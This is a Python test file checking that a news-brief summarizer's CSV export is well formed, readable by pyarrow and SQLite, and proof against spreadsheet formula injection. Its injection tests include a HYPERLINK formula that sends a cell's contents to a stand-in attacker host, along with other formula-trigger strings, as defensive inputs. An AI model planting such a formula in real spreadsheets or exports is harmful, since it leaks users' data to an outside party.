"""Briefs as rows that spreadsheets, data frames and databases read."""

import csv
import io
import itertools
import re
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from summarizer import Brief
from summarizer.brief import CATEGORIES, ONE
from summarizer.documents import Document
from summarizer.views.csv import COLUMNS, to_csv

TEXT = "Oroko's Adaeze Obuya said the pact holds; Sanda agreed. They meet on July 1."
ITEMS: dict[str, Any] = {
    "parties": [
        {
            "evidence": [1],
            "name": "Adaeze Obuya",
            "aliases": ["Obuya", "Semi; colon \\ slash"],
            "kind": "person",
            "role": "Foreign Minister",
            "represents": "Oroko",
            "support": "supported",
        },
        {"evidence": [1], "name": "Oroko", "kind": "state"},
    ],
    "agreements": [
        {
            "evidence": [1, 2],
            "summary": "The pact holds.",
            "parties": ["Oroko", "Sanda"],
            "status": "reached",
            "reported_by": "Adaeze Obuya",
            "one_sided": True,
            "support": "weak",
            "doubts": ["it says 'holds' | or does it", "nobody signed"],
            "completed_by": [3],
        }
    ],
    "talks": [
        {
            "evidence": [3],
            "title": "session, with a comma",
            "participants": ["Oroko", "Sanda"],
            "mediators": ["Meru"],
            "when": "July 1",
            "start": "2023-07-01",
            "location": 'the "Old Mill"',
            "topics": ["fish", "salt"],
            "status": "scheduled",
        }
    ],
    "concerns": [{"evidence": [2], "summary": "Sanda fears floods.", "raised_by": ["Sanda"], "directed_at": ["Oroko"]}],
    "sentences": [
        {"number": 1, "start": 0, "end": 42, "text": "Oroko's Adaeze Obuya said | the pact holds;"},
        {"number": 2, "start": 43, "end": 55, "text": "Sanda agreed."},
        {"number": 3, "start": 56, "end": 76, "text": "They meet on July 1."},
    ],
}


def brief(items: dict[str, Any] = ITEMS, **article: Any) -> Brief:
    return Brief.model_validate(
        {
            "article": {
                "title": "Oroko and Sanda: pact holds",
                "source": "Example Wire",
                "published": "2023-05-16",
                "url": "https://wire.example/1",
                "language": "en",
                "sha256": "ab" * 32,
                **article,
            },
            **{category: [] for category in CATEGORIES},
            "sentences": [],
            "run": {
                "model": "embedded/m",
                "strategy": "whole",
                "fingerprint": "0",
                "requests": 1,
                "retries": 0,
                "input_tokens": 1,
                "output_tokens": 1,
                "cached_tokens": 0,
                "seconds": 1.0,
                "cost_usd": None,
            },
            **items,
        }
    )


def rows(*documents: Document) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(to_csv(documents)), newline=""), strict=True))


def apart(cell: str, mark: str = ";") -> list[str]:
    """A list as the documentation says that it comes apart."""
    found = re.findall(rf"(?:\\.|[^{re.escape(mark)}\\])+", cell)
    return [re.sub(r"\\(.)", r"\1", one.strip()) for one in found]


def test_every_item_is_a_row_with_all_that_it_says() -> None:
    one = brief()

    found = rows(Document("wire/1", one))

    assert [row["category"] for row in found] == ["party", "party", "agreement", "talk", "concern"]
    assert [row["item"] for row in found] == ["1", "2", "1", "1", "1"]
    assert {row["article_id"] for row in found} == {"wire/1"}
    texts = {1: ITEMS["sentences"][0]["text"], 2: "Sanda agreed.", 3: "They meet on July 1."}
    for row, item in zip(found, one.items, strict=True):
        for name, value in item.model_dump().items():
            column = "text" if name in ("name", "title", "summary") else name
            if isinstance(value, list):
                assert apart(row[column], "|" if name == "doubts" else ";") == [str(part) for part in value], name
            else:
                written = str(value).lower() if isinstance(value, bool) else "" if value is None else str(value)
                assert row[column] == written, name
        assert apart(row["quotes"], "|") == [texts[number] for number in item.evidence]
        assert (row["title"], row["source"], row["published"]) == (one.article.title, "Example Wire", "2023-05-16")
        assert (row["url"], row["sha256"], row["model"]) == ("https://wire.example/1", "ab" * 32, "embedded/m")


def test_every_field_of_every_kind_of_item_has_a_column() -> None:
    fields = {name for item in brief().items for name in type(item).model_fields}

    assert fields - set(COLUMNS) == {"name", "summary"}  # these two are its text
    assert all(COLUMNS.values())


def test_the_columns_are_the_same_whatever_there_is() -> None:
    assert next(to_csv([])) == ",".join(COLUMNS) + "\r\n"
    assert list(to_csv([], header=False)) == []
    assert {len(row) for row in csv.reader(to_csv([Document("a", brief())]))} == {len(COLUMNS)}


def test_a_brief_without_items_has_no_row() -> None:
    assert rows(Document("a", brief({}))) == []


def test_what_is_not_known_is_an_empty_cell() -> None:
    (row,) = rows(Document("a", brief({"concerns": [{"summary": "Fear."}]}, title=None, source=None, published=None)))

    assert {row[name] for name in ("title", "source", "published", "evidence", "quotes", "raised_by", "one_sided")} == {
        ""
    }


def test_rows_come_one_by_one_from_documents_without_end() -> None:
    pieces = to_csv(Document(str(number), brief()) for number in itertools.count())

    assert len(list(itertools.islice(pieces, 1000))) == 1000


def test_documents_are_asked_for_only_when_their_rows_are() -> None:
    asked = []

    def documents() -> Iterator[Document]:
        for name in "ab":
            asked.append(name)
            yield Document(name, brief())

    pieces = to_csv(documents())
    next(pieces)
    next(pieces)

    assert asked == ["a"]


# --- what could go wrong in a cell -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "'=1", "''@x", "\t=1", "＝1", "－1"]
)
def test_no_cell_is_a_formula_and_the_text_can_be_had_back(name: str) -> None:
    (row,) = rows(Document(name, brief({"concerns": [{"summary": "x", "raised_by": [name]}]}, title=name)))

    for cell, text in ((row["article_id"], name), (row["title"], name), (row["raised_by"], name.strip())):
        assert cell[0] not in "=+-@\t\r＝＋－＠"
        assert re.sub(r"^'(?='*[=+\-@\t＝＋－＠])", "", cell) == text


@pytest.mark.parametrize("name", ["Côte d'Ivoire", "'Abd al-Karim", "T-shirt makers", "A+B", "x@y", "5% - so"])
def test_what_is_no_formula_stays_as_it_is(name: str) -> None:
    (row,) = rows(Document("a", brief({"parties": [{"name": name, "kind": "company"}]})))

    assert row["text"] == name


def test_a_cell_holds_no_line_end_and_a_row_is_a_line() -> None:
    told = brief({"concerns": [{"summary": "x", "doubts": ["two\r\nlines\u2028more\x85end"]}]}, title="a\nb")

    written = "".join(to_csv([Document("path\nof\rit", told)]))

    assert written.count("\r\n") == 2
    assert len(written.splitlines()) == 2
    assert "a b" in written
    assert "path of it" in written


@given(
    names=st.lists(st.text(min_size=1), min_size=1, max_size=4),
    title=st.text(),
    doubts=st.lists(st.text(), max_size=3),
)
def test_any_text_is_one_row_of_all_columns_and_no_formula(names: list[str], title: str, doubts: list[str]) -> None:
    one = brief(title=title)
    one.concerns[0].raised_by = names
    one.concerns[0].doubts = doubts

    *_, row = csv.reader(to_csv([Document(title, one)]), strict=True)

    cells = dict(zip(COLUMNS, row, strict=True))
    assert not any(re.match(r"[=+\-@\t\r\n]", cell) for cell in row)
    undone = re.sub(r"^'(?='*[=+\-@\t＝＋－＠])", "", cells["raised_by"])
    lines = [re.sub(r"[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]+", " ", name) for name in names]
    parts = re.findall(r"((?:\\.|[^;\\])*)(?:; |$)", undone, re.DOTALL)[: len(lines)]
    assert [re.sub(r"\\(.)", r"\1", part, flags=re.DOTALL) for part in parts] == lines


# --- other people's readers ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_pyarrow_reads_the_rows_with_and_without_a_byte_order_mark(encoding: str) -> None:
    reader = pytest.importorskip("pyarrow.csv")
    arrow = pytest.importorskip("pyarrow")
    documents = [Document("a", brief()), Document("ü", brief(title="Ünlü “quoted”, said"))]
    written = "".join(to_csv(documents)).encode(encoding)

    types = dict.fromkeys(COLUMNS, arrow.string())
    table = reader.read_csv(io.BytesIO(written), convert_options=reader.ConvertOptions(column_types=types))

    assert table.to_pylist() == rows(*documents)


def test_sqlite_imports_the_rows(tmp_path: Path) -> None:
    if not (shell := shutil.which("sqlite3")):
        pytest.skip("the shell of SQLite is not installed")
    documents = [Document("a", brief()), Document("b", brief())]
    (tmp_path / "items.csv").write_text("".join(to_csv(documents)), encoding="utf-8", newline="")

    subprocess.run([shell, "items.db", ".import --csv items.csv item"], cwd=tmp_path, check=True, capture_output=True)

    with sqlite3.connect(tmp_path / "items.db") as db:
        found = db.execute("SELECT * FROM item").fetchall()
        days = db.execute("SELECT article_id, start FROM item WHERE category = ?", (ONE["talks"],)).fetchall()
    db.close()
    assert found == [tuple(row.values()) for row in rows(*documents)]
    assert days == [("a", "2023-07-01"), ("b", "2023-07-01")]
